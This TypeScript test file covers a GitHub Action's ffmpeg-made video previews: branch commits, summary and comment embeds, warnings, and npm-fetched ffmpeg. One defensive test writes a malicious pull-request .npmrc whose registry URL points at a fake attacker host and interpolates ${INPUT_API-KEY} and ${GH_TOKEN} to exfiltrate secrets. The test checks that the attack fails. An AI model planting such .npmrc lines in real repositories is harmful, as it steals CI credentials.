/**
 * The poster and the GIF through the real bundle: made with ffmpeg, committed to preview-branch through the GitHub
 * REST fake, shown in the summary and the comment, zipped with the video when asked.
 */
import { createHash } from 'node:crypto'
import { readFile, rm, stat, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { FFMPEG_WASM } from '../../src/ffmpeg.js'
import { type Scenario } from '../emulator/server.ts'
import { startGitHubApi, type GitHubApiFake, type GitHubApiOptions } from '../fakes/github-rest.ts'
import { startNpmRegistry } from '../fakes/npm-registry.ts'
import { readZip } from '../fakes/zip.ts'
import { FFMPEG_TESTS, readGif, recordingFfmpeg, tarballFromNpmCache, toolsOnlyPath } from '../harness/ffmpeg.ts'
import { makeRunnerDirs, type BundleRun } from '../harness/runner.ts'
import { KEY, GH_TOKEN, PR, PR_HEAD, clips, runAction, annotations, entriesOf, finishing } from './action-run.ts'

// ---------------------------------------------------------------------------------------------------------
// Preview: poster and GIF, published to a branch and shown inline

describe.runIf(FFMPEG_TESTS)('preview through the bundle', () => {
  const BRANCH = 'grok-video-previews'
  let api: GitHubApiFake | undefined
  const cleanup: (() => Promise<void>)[] = []
  afterEach(async () => {
    await api?.close()
    api = undefined
    await Promise.all(cleanup.splice(0).map((close) => close()))
  })
  const startApi = async (options: GitHubApiOptions = {}): Promise<GitHubApiFake> =>
    (api = await startGitHubApi({ token: GH_TOKEN, ...options }))
  const quick: Scenario = { name: 'quick', poll: [finishing(1)] }
  /** PATH with a recording ffmpeg first: which runs happened is then on record. */
  const withFfmpeg = async (): Promise<{ env: Record<string, string>; calls: () => Promise<string[]> }> => {
    const spy = await recordingFfmpeg()
    cleanup.push(() => rm(spy.dir, { recursive: true, force: true }))
    return { env: { PATH: `${spy.dir}${path.delimiter}${process.env.PATH ?? ''}` }, calls: spy.calls }
  }
  const gifUrl = (sha: string): string => `https://github.com/${PR.owner}/${PR.repo}/blob/${BRANCH}/${sha}.gif?raw=true`
  const sha256 = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex')
  const previewWarnings = (run: BundleRun): string[] =>
    annotations(run, 'warning').filter((line) => /preview/i.test(line))

  it('a pull request with preview-branch: both files committed, and the summary and the comment embed the GIF inside a link to the artifact', async () => {
    const fake = await startApi()
    const ffmpeg = await withFfmpeg()
    const inputs = { 'comment-on-pr': 'true', 'github-token': GH_TOKEN, 'preview-branch': BRANCH }
    const run = await runAction({
      scenario: quick,
      inputs,
      github: { api: fake, event: 'pull_request' },
      env: ffmpeg.env,
    })
    expect(run.exitCode).toBe(0)
    expect(annotations(run, 'warning')).toEqual([])
    const o = run.outputs
    const gif = await readFile(o['preview-path'])
    const poster = await readFile(o['poster-path'])
    expect(o['preview-path']).toBe(o['video-path'].replace(/\.mp4$/, '.preview.gif'))
    expect(o['poster-path']).toBe(o['video-path'].replace(/\.mp4$/, '.poster.png'))
    // The session.emulator's video is 64x64 and 1 s long: never enlarged, 10 frames at 10 fps.
    expect(readGif(gif)).toMatchObject({ version: 'GIF89a', width: 64, frames: 10 })
    expect(o['preview-url']).toBe(gifUrl(sha256(gif)))

    const git = fake.git(PR.owner, PR.repo)
    const files = git.files(BRANCH)
    expect(files.get(`${sha256(gif)}.gif`)).toEqual(gif)
    expect(files.get(`${sha256(poster)}.png`)).toEqual(poster)
    expect(git.history(BRANCH)).toHaveLength(1)
    expect(git.history(BRANCH)[0]?.parents).toEqual([])
    expect(git.history(BRANCH)[0]?.message).toMatch(/^Add video previews of workflow run \d+ \(job render\)$/)
    for (const branch of ['main', PR_HEAD]) expect(git.head(branch)).toBeUndefined()

    const embedded = `[![Preview of the video](${o['preview-url']})](${o['artifact-url']})`
    expect(run.summary.split('\n')).toContain(embedded)
    const [comment] = fake.comments(PR)
    expect(comment?.body.split('\n')).toContain(embedded)
    expect(await ffmpeg.calls()).toHaveLength(2) // a description, then the poster and the GIF
  })

  it('an existing preview branch is fast-forwarded, keeping what other runs put there', async () => {
    const fake = await startApi()
    const git = fake.git(PR.owner, PR.repo)
    const earlier = git.commitFiles(
      BRANCH,
      { 'README.md': 'previews', 'earlier.gif': 'GIF89a' },
      'Add video previews of an earlier run',
    )
    const run = await runAction({
      scenario: quick,
      inputs: { 'preview-branch': BRANCH, 'github-token': GH_TOKEN },
      github: { api: fake, event: 'pull_request' },
      env: (await withFfmpeg()).env,
    })
    expect(run.exitCode).toBe(0)
    const history = git.history(BRANCH)
    expect(history).toHaveLength(2)
    expect(history[0]?.parents).toEqual([earlier.sha])
    const gif = await readFile(run.outputs['preview-path'])
    expect([...git.files(BRANCH).keys()].sort()).toEqual(
      [
        'README.md',
        'earlier.gif',
        `${sha256(gif)}.gif`,
        `${sha256(await readFile(run.outputs['poster-path']))}.png`,
      ].sort(),
    )
  })

  it('a batch commits every preview at once; each results entry has its preview-url; the summary shows a grid', async () => {
    const fake = await startApi()
    const run = await runAction({
      scenario: quick,
      jobs: clips(2),
      inputs: { 'preview-branch': BRANCH, 'comment-on-pr': 'true', 'github-token': GH_TOKEN },
      github: { api: fake, event: 'pull_request' },
      env: (await withFfmpeg()).env,
    })
    expect(run.exitCode).toBe(0)
    expect(fake.git(PR.owner, PR.repo).history(BRANCH)).toHaveLength(1)
    const entries = entriesOf(run)
    for (const entry of entries) {
      const gif = await readFile(entry['video-path'].replace(/\.mp4$/, '.preview.gif'))
      expect(entry['preview-url']).toBe(gifUrl(sha256(gif)))
      const tile = `<a href="${entry['artifact-url']}"><img src="${entry['preview-url']}" width="240" alt="${entry.name}"></a>`
      expect(run.summary).toContain(tile)
      expect(fake.comments(PR)[0]?.body).toContain(tile)
    }
  })

  it('a read-only token (403): the run succeeds, and one warning says why and what to do', async () => {
    const fake = await startApi({ readOnly: true })
    const run = await runAction({
      scenario: quick,
      inputs: { 'preview-branch': BRANCH, 'github-token': GH_TOKEN },
      github: { api: fake, event: 'pull_request' },
      env: (await withFfmpeg()).env,
    })
    expect(run.exitCode).toBe(0)
    expect(run.outputs.status).toBe('done')
    expect(run.outputs['artifact-url']).not.toBe('')
    expect(annotations(run, 'warning')).toHaveLength(1)
    expect(previewWarnings(run)[0]).toMatch(
      /^::warning::No preview published to 'grok-video-previews': could not upload [0-9a-f]{64}\.(png|gif) of octo-org\/films@grok-video-previews: HTTP 403, .*`permissions: contents: write`.*forks/,
    )
    expect(run.outputs['preview-url']).toBe('')
    expect(run.outputs['preview-path']).not.toBe('')
    expect(run.summary).not.toContain('![')
    expect(run.summary).not.toContain('<sub>')
  })

  it("no ffmpeg on PATH ('auto'): the run succeeds; a log line and the summary's hint, no annotation", async () => {
    const run = await runAction({ scenario: quick, env: { PATH: await toolsOnlyPath([]) } })
    expect(run.exitCode).toBe(0)
    expect(annotations(run, 'warning')).toEqual([])
    const said =
      "no ffmpeg on PATH. Set 'preview: true' to fetch a pinned, checksum-verified ffmpeg, or install ffmpeg in an " +
      "earlier step; 'preview: false' silences this."
    const log = run.stdout.split('\n')
    const at = log.indexOf(`No preview: ${said}`)
    expect(at).toBeGreaterThan(-1)
    // Not folded away inside the upload's log group.
    const lastGroupLine = log.slice(0, at).findLast((line) => /^::(end)?group::/.test(line)) ?? '::endgroup::'
    expect(lastGroupLine).toBe('::endgroup::')
    expect(run.summary.split('\n')).toContain(`<sub>No preview: \` ${said} \`</sub>`)
    expect(run.outputs).toMatchObject({ status: 'done', 'poster-path': '', 'preview-path': '', 'preview-url': '' })
  })

  it('without preview-branch: the files stay on the runner, and the summary says in one line how to show them', async () => {
    const run = await runAction({ scenario: quick, env: (await withFfmpeg()).env })
    expect(run.exitCode).toBe(0)
    expect(run.outputs['preview-path']).not.toBe('')
    expect(run.summary.split('\n').filter((line) => line.startsWith('<sub>'))).toEqual([
      '<sub>The poster and the GIF are on the runner (`poster-path`, `preview-path`). To show them here and in the ' +
        'pull request, set `preview-branch` to a branch of their own and give the job `contents: write`.</sub>',
    ])
  })

  it('ffmpeg on PATH runs twice for a video whose GIF fits: it describes the video, then makes the poster and the GIF from one decode', async () => {
    const ffmpeg = await withFfmpeg()
    const run = await runAction({ scenario: quick, env: ffmpeg.env })
    expect(run.exitCode).toBe(0)
    const calls = await ffmpeg.calls()
    expect(calls).toHaveLength(2)
    expect(calls[1]).toMatch(/-map \[poster\] .*poster\.png -map \[gif\] .*preview\.gif$/)
    const poster = await readFile(run.outputs['poster-path'])
    expect(poster.subarray(1, 4).toString('latin1')).toBe('PNG')
    expect(readGif(await readFile(run.outputs['preview-path'])).width).toBeGreaterThan(0)
  })

  it("'preview: false' runs no ffmpeg and sets no preview output", async () => {
    const ffmpeg = await withFfmpeg()
    const run = await runAction({ scenario: quick, inputs: { preview: 'false' }, env: ffmpeg.env })
    expect(run.exitCode).toBe(0)
    expect(await ffmpeg.calls()).toEqual([])
    expect(run.outputs).toMatchObject({ 'poster-path': '', 'preview-path': '', 'preview-url': '' })
    expect(run.summary).not.toContain('<sub>')
  })

  it("'archive: true': the zip carries the poster and the GIF", async () => {
    const run = await runAction({ scenario: quick, inputs: { archive: 'true' }, env: (await withFfmpeg()).env })
    expect(run.exitCode).toBe(0)
    const [artifact] = run.artifacts
    const names = [...readZip(artifact?.bytes ?? Buffer.alloc(0)).keys()].sort()
    expect(names).toEqual(
      [run.outputs['video-path'], run.outputs['metadata-path'], run.outputs['poster-path'], run.outputs['preview-path']]
        .map((file) => path.basename(file))
        .sort(),
    )
  })

  it("'preview: true' without ffmpeg: the pinned one is fetched through npm's registry into the tool cache", async () => {
    const tarball = await tarballFromNpmCache(FFMPEG_WASM.integrity)
    const registry = await startNpmRegistry({ name: FFMPEG_WASM.name, version: FFMPEG_WASM.version, tarball })
    cleanup.push(() => registry.close())
    const dirs = await makeRunnerDirs('grok-main-fetch-')
    const run = await runAction({
      scenario: quick,
      inputs: { preview: 'true' },
      env: {
        PATH: await toolsOnlyPath(),
        npm_config_registry: registry.url,
        npm_config_cache: path.join(dirs.root, 'npm-cache'),
        RUNNER_TOOL_CACHE: path.join(dirs.root, 'tool-cache'),
      },
    })
    cleanup.push(() => rm(dirs.root, { recursive: true, force: true }))
    expect(run.exitCode).toBe(0)
    expect(annotations(run, 'warning')).toEqual([])
    expect(run.stdout).toContain(
      `Fetched ${FFMPEG_WASM.name}@${FFMPEG_WASM.version} (SHA-512 verified) into the tool cache`,
    )
    expect(readGif(await readFile(run.outputs['preview-path'])).frames).toBe(10)
  })

  it("'preview: true': npm runs with no secret and without the workspace's .npmrc; the runner's own npm config still names the registry", async () => {
    const tarball = await tarballFromNpmCache(FFMPEG_WASM.integrity)
    const mirror = await startNpmRegistry({ name: FFMPEG_WASM.name, version: FFMPEG_WASM.version, tarball })
    const attacker = await startNpmRegistry({ name: FFMPEG_WASM.name, version: FFMPEG_WASM.version, tarball })
    cleanup.push(
      () => mirror.close(),
      () => attacker.close(),
    )
    const dirs = await makeRunnerDirs('grok-main-npmrc-')
    cleanup.push(() => rm(dirs.root, { recursive: true, force: true }))
    const JOB_SECRET = 'ghp_jobLevelSecretOfTheWorkflow0123456789'
    const run = await runAction({
      scenario: quick,
      inputs: { preview: 'true' },
      prepare: async (runner) => {
        // The runner's user config (HOME is the run's root), as setup-node's registry-url writes one.
        await writeFile(path.join(runner.root, '.npmrc'), `registry=${mirror.url}\n`)
        // Pull-request content.
        await writeFile(
          path.join(runner.workspace, '.npmrc'),
          `registry=${attacker.url}\${INPUT_API-KEY}/\${GH_TOKEN}/\n`,
        )
        await writeFile(path.join(runner.workspace, 'package.json'), '{"name":"pr","version":"1.0.0"}\n')
      },
      env: {
        PATH: await toolsOnlyPath(),
        GH_TOKEN: JOB_SECRET,
        npm_config_cache: path.join(dirs.root, 'npm-cache'),
        RUNNER_TOOL_CACHE: path.join(dirs.root, 'tool-cache'),
      },
    })
    expect(run.exitCode).toBe(0)
    expect(attacker.requests).toEqual([])
    expect(mirror.requests.filter((request) => request.endsWith('.tgz'))).toHaveLength(1)
    const seen = JSON.stringify([mirror.requests, mirror.headers])
    for (const secret of [KEY, JOB_SECRET]) expect(seen).not.toContain(secret)
    expect(annotations(run, 'warning')).toEqual([])
    expect(readGif(await readFile(run.outputs['preview-path'])).frames).toBe(10)
  })

  it("an artifact name with '%' names the poster and the GIF as it is, and 'archive: true' zips them", async () => {
    const run = await runAction({
      scenario: quick,
      inputs: { archive: 'true', 'artifact-name': 'promo-100%' },
      env: (await withFfmpeg()).env,
    })
    expect(run.exitCode).toBe(0)
    expect(annotations(run, 'warning')).toEqual([])
    expect(path.basename(run.outputs['poster-path'])).toBe('promo-100%.poster.png')
    expect(path.basename(run.outputs['preview-path'])).toBe('promo-100%.preview.gif')
    expect((await stat(run.outputs['poster-path'])).size).toBeGreaterThan(0)
    const names = [...readZip(run.artifacts[0]?.bytes ?? Buffer.alloc(0)).keys()]
    expect(names).toEqual(expect.arrayContaining(['promo-100%.poster.png', 'promo-100%.preview.gif']))
  })
})
